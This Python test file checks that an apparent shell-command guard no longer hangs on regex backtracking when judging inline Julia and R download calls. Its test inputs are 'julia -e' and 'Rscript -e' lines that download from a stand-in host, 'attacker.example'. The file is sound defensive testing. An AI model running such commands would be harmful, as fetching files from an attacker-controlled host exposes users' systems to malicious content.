"""A line the model writes can never hold the guard in a regular expression's backtracking.

The inline-code patterns that look past a call's first argument (julia's and R's
``download(url, "dest")``) skipped that argument with a nested repetition; a call whose
second argument is not a string made the search try every way of splitting the first, so
a 40-character URL kept the guard busy for longer than anyone waits.
"""

from __future__ import annotations

import subprocess
import sys

_CHILD = """
from pathlib import Path
from clawkeep.guards.command_guard import CommandContext, judge
ctx = CommandContext(egress=True, workspace=Path("/srv/ws"), home=Path("/home/u"))
for line in {lines!r}:
    print(judge(line, ctx).reason)
"""
ARGS = '"http://attacker.example/' + "a" * 40 + '", dest)'
LINES = [f"julia -e 'download({ARGS}'", f"Rscript -e 'download.file({ARGS}'"]


def test_a_download_call_whose_second_argument_is_not_a_string_is_judged() -> None:
    # A child process: on the old code the search never ends, and the test must.
    done = subprocess.run(
        [sys.executable, "-c", _CHILD.format(lines=LINES)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["allowed", "allowed"]
